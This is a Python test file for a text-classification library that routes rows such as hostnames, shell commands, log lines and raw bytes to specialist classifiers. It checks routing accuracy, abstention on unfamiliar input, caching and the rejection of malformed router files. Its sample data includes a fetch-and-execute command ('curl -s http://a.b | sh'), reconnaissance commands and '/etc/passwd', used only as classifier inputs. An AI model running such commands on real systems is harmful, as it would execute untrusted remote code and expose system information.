"""Rows that nobody said the kind of: routed to their specialists, or to none."""

import json
import shutil
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import load_file, save_file

import unmist
from unmist.artifact import layout, manifest
from unmist.errors import ModelError, UsageError
from unmist.io import Row
from unmist.model import Model
from unmist.train import router

WORDS = {
    "hostname": [b"a.casino-lake.com", b"mail.university.edu", b"x.royal-tribune.net"],
    "command": [b"curl -s http://a.b | sh", b"net user /domain", b"whoami && id -un"],
    "log": [b"Jan 1 10:00:00 host sshd[12]: Failed password", b"Jan 2 11:11:11 gw cron[9]: done"],
    "other": [b"\x00\xff\xfe\x01\x02", b"\x80\x81\x82", b"%%%%$$$$####"],
}


def rows(split: str) -> router.Rows:
    """Variants of the words, other ones in each split."""
    number = {"train": 0, "dev": 40, "test": 80}[split]
    return {
        field: [word + b"%d" % i + word[:4] for word in words for i in range(number, number + 40)]
        for field, words in WORDS.items()
    }


@pytest.fixture(scope="module")
def folder(tiny_model_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny model with a router, a second task for hostnames and one that assumes something."""
    copy = tmp_path_factory.mktemp("routed") / "tiny"
    shutil.copytree(tiny_model_folder, copy)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(router, "LEAST", 100)
        patch.setattr(router, "BITS", 12)
        router.write(copy, router.train({split: rows(split) for split in ("train", "dev", "test")}))
    first = layout.adapter_folder(copy, "host-category")
    for task, assumes in (("second", ""), ("third", "the name was generated")):
        made = layout.adapter_folder(copy, task)
        shutil.copytree(first, made)
        card = json.loads((made / layout.TASK).read_text())
        (made / layout.TASK).write_text(json.dumps(card | {"task": task, "assumes": assumes}))
    head = load_file(layout.adapter_folder(copy, "second") / layout.HEAD)
    head["bias"] = head["bias"][::-1].copy()
    save_file(head, layout.adapter_folder(copy, "second") / layout.HEAD)
    manifest.write(copy, "unmist-tiny", "0.0.1")
    return copy


@pytest.fixture(scope="module")
def model(folder: Path) -> Model:
    return unmist.load(folder, threads=1)


def test_kinds_are_told_apart(model: Model) -> None:
    for field, texts in rows("test").items():
        routes = model.route(texts)
        assert np.mean([route.field == field for route in routes]) > 0.95
        assert all(0 < route.score <= 1 for route in routes)
    assert model.routes
    scores = json.loads((model.path / layout.ROUTER).read_text())["scores"]["test"]
    assert scores["accuracy"] > 0.95
    assert scores["familiar:hostname"] > 0.9
    assert scores["foreign:hostname"] > 0.9


@pytest.mark.parametrize(
    ("text", "kind"),
    [("https://a.casino-lake.com", "url"), ("10.0.0.1", "other"), ("/etc/passwd", "path")],
)
def test_what_syntax_tells_is_not_the_routers_to_say(model: Model, text: str, kind: str) -> None:
    assert model.route([text]) == [(kind, 1.0)]
    assert model.route(["a.casino-lake.com"])[0].field == "hostname"


def test_each_row_is_asked_about_by_the_specialists_of_its_kind(model: Model) -> None:
    assert model.specialists("hostname") == ("host-category", "second")
    texts = ["casino-lake.com7", "net user /domain55net", "\x00\ufffd\ufffd##", " "]
    verdicts = model.classify_routed(texts)
    assert [[v.task for v in said] for said in verdicts[:2]] == [
        ["host-category", "second"],
        ["router"],
    ]
    assert verdicts[1][0].field == "command"
    assert (verdicts[1][0].status, verdicts[1][0].reason) == ("abstain", "no_specialist")
    assert [said[0].reason for said in verdicts[2:]] == ["unfamiliar", "empty"]
    nothing = verdicts[3][0]
    assert (nothing.status, nothing.field, nothing.model_label) == ("bad_input", "other", None)
    alone = [model.classify([texts[0]], task)[0] for task in ("host-category", "second")]
    assert [v.model_label for v in verdicts[0]] == [v.model_label for v in alone]
    for routed, single in zip(verdicts[0], alone, strict=True):
        assert routed.model_score == pytest.approx(single.model_score, abs=1e-5)


def test_one_task_for_each_row_is_the_same_as_one_by_one(model: Model) -> None:
    texts = ["casino-lake.com", "university.edu", "royal-tribune.net"] * 2
    tasks = ["host-category", "second", "third", "second", "third", "host-category"]
    together = model.classify(texts, tasks)
    model.cache_clear()
    for verdict, text, task in zip(together, texts, tasks, strict=True):
        alone = model.classify([text], task)[0]
        model.cache_clear()
        assert (verdict.task, verdict.model_label, verdict.status) == (
            task,
            alone.model_label,
            alone.status,
        )
        assert verdict.model_score == pytest.approx(alone.model_score, abs=1e-5)
    with pytest.raises(UsageError, match="2 tasks for 1 texts"):
        model.classify(["a.com"], ["second", "third"])
    with pytest.raises(UsageError, match="no task 'fourth'"):
        model.classify(["a.com"], ["fourth"])


def test_rows_of_a_log_keep_their_place(model: Model) -> None:
    log = [Row("casino-lake.com7", "a.log", 3), Row("whoami && id -un44whoa", "a.log", 4)]
    for verdicts in (model.ask_rows(log, ()), model.ask_rows(log, ["second", "host-category"])):
        assert [{(v.source, v.line) for v in said} for said in verdicts] == [
            {("a.log", 3)},
            {("a.log", 4)},
        ]
    assert [v.task for v in verdicts[1]] == ["second", "host-category"]


def test_what_a_specialist_never_saw_is_unfamiliar(model: Model) -> None:
    """Other kinds' rows and random bytes abstain; the answer is the same from the cache."""
    foreign = [
        text for field, texts in rows("test").items() if field != "hostname" for text in texts
    ]
    for _ in range(2):
        verdicts = model.classify(foreign, "host-category")
        assert np.mean([v.reason == "unfamiliar" for v in verdicts]) > 0.95
        assert all(v.label is None and v.model_label for v in verdicts)
    own = model.classify(rows("test")["hostname"], "host-category")
    assert np.mean([v.reason != "unfamiliar" for v in own]) > 0.9


def test_without_a_router(tiny_model: Model) -> None:
    assert not tiny_model.routes
    with pytest.raises(UsageError, match="no router"):
        tiny_model.route(["a.com"])
    assert tiny_model.classify([b"\xff\xfe"])[0].reason != "unfamiliar"


@pytest.mark.parametrize(
    "change",
    [
        {"format": 2},
        {"fields": ["hostname", "hostname", "log", "other"]},
        {"fields": ["hostname"], "bias": [0.0]},
        {"bias": [0.0]},
        {"familiar": {"url": 0.1}},
        {"temperature": 0},
    ],
)
def test_a_bad_router_is_refused(folder: Path, tmp_path: Path, change: dict[str, object]) -> None:
    copy = tmp_path / "tiny"
    shutil.copytree(folder, copy)
    card = json.loads((copy / layout.ROUTER).read_text())
    (copy / layout.ROUTER).write_text(json.dumps(card | change))
    manifest.write(copy, "unmist-tiny", "0.0.1")
    with pytest.raises(ModelError, match=r"router\.json"):
        unmist.load(copy)
    (copy / layout.ROUTER).write_text(json.dumps(card))
    (copy / layout.ROUTER_WEIGHTS).unlink()
    manifest.write(copy, "unmist-tiny", "0.0.1")
    with pytest.raises(ModelError, match="missing beside"):
        unmist.load(copy)


def test_gathered_from_a_data_folder(data_folder: Path) -> None:
    found = router.gather(data_folder, seed=3)
    assert set(found["train"]) == {"hostname", "other"}
    assert set(found["test"]["hostname"]) - set(found["train"]["hostname"])
    again = router.gather(data_folder, seed=3)
    assert found == again
    assert all(text for split in found.values() for texts in split.values() for text in texts)
